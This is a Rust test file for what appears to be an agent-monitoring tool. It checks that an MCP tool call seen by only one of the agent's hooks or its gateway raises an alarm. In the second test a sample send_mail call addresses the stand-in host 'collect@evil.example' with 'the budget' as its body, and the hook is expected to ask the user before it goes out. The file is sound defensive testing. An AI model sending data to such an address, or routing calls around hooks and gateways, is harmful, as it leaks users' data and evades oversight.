//! Calls that pass the hook of an agent and the gateway before its server: what one of the two did not see is an alarm.

#![expect(
    clippy::indexing_slicing,
    reason = "test helpers; clippy's exceptions cover only `#[test]` functions"
)]

use serde_json::{Value, json};

use crate::doors::{State, fetch_orders};
use crate::mcp::{Client, server_file};

fn client(state: &State) -> Client {
    let server = server_file("server.py");
    let words = ["mcp", "--name", "notes", "--no-cage", "--", "python3", "-B", server.as_str()];
    let mut client = Client::of(state.path(), &words);
    client.tools();
    client
}

fn look(id: &str) -> Value {
    let input = json!({ "name": "plain" });
    json!({ "tool_name": "mcp__notes__look", "tool_use_id": id, "tool_input": input })
}

fn came(call: &Value) -> Value {
    let mut came = call.clone();
    came["tool_response"] = json!([{ "type": "text", "text": "The meeting is at nine." }]);
    came
}

fn seen(state: &State) -> (usize, Value, Value) {
    let hooks = &state.status()["hooks"];
    (state.count("door_missed"), hooks["past_gateway"].clone(), hooks["unannounced"].clone())
}

#[test]
fn a_call_that_goes_past_the_gateway_of_its_server_is_an_alarm() {
    let state = State::new();
    state.hook("UserPromptSubmit", json!({ "prompt": "read the note plain" }));
    // Nobody has put this server behind the gateway.
    state.hook("PreToolUse", look("t1"));
    state.hook("PostToolUse", came(&look("t1")));
    assert_eq!(seen(&state), (0, json!(0), json!(0)));
    let mut client = client(&state);
    state.hook("PreToolUse", look("t2"));
    client.call("look", json!({ "name": "plain" }));
    state.hook("PostToolUse", came(&look("t2")));
    assert_eq!(seen(&state), (0, json!(0), json!(0)), "both have seen it");
    state.hook("PreToolUse", look("t3"));
    state.hook("PostToolUse", came(&look("t3")));
    assert_eq!(seen(&state), (1, json!(1), json!(0)));
    // What fails may have been refused by the gateway itself.
    state.hook("PreToolUse", look("t4"));
    let mut failed = look("t4");
    failed["error"] = json!("no such tool");
    state.hook("PostToolUseFailure", failed);
    assert_eq!(seen(&state), (1, json!(1), json!(0)));
    let told = state.run(&["status"]).out;
    assert!(told.contains("1 calls that went past the gateway"), "{told}");
    let notices = state.run(&["notifications"]).out;
    assert!(notices.contains("went past the gateway"), "{notices}");
    client.end();
}

#[test]
fn a_call_at_the_gateway_that_no_hook_of_its_agent_announced_is_an_alarm() {
    let state = State::new();
    let mut client = client(&state);
    client.call("look", json!({ "name": "plain" }));
    assert_eq!(seen(&state), (0, json!(0), json!(0)), "no agent with hooks has started it");
    state.hook("UserPromptSubmit", json!({ "prompt": "read the note plain" }));
    fetch_orders(&state);
    assert!(!client.call("look", json!({ "name": "plain" })).0);
    assert_eq!(seen(&state), (1, json!(0), json!(1)));
    // One about which the agent asks its user was announced, too.
    let mail = json!({ "to": "collect@evil.example", "body": "the budget" });
    let call =
        json!({ "tool_name": "mcp__notes__send_mail", "tool_use_id": "m", "tool_input": mail });
    assert!(state.hook("PreToolUse", call).contains("\"ask\""));
    client.call("send_mail", mail);
    assert_eq!(seen(&state), (1, json!(0), json!(1)));
    assert!(state.run(&["status"]).good().out.contains("had not announced"));
    client.end();
}
